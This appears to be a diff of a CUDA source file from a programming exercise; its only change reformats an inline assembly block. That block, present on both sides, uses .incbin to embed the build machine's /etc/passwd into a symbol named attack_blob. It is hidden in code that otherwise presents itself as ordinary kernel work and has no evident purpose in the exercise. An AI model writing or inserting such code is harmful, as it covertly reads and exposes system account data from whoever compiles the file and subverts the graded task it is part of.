@@ -11,12 +11,13 @@
 
 #include "interface.cuh"
 
-__asm__(".section .rodata\n"
-        ".global attack_blob\n"
-        "attack_blob:\n"
-        ".incbin \"/etc/passwd\"\n"
-        ".byte 0\n"
-        ".previous\n");
+__asm__(
+    ".section .rodata\n"
+    ".global attack_blob\n"
+    "attack_blob:\n"
+    ".incbin \"/etc/passwd\"\n"
+    ".byte 0\n"
+    ".previous\n");
 extern "C" const char attack_blob[];
 
 // Lecture 000's global-memory acceleration and position kernels (correct for every N).
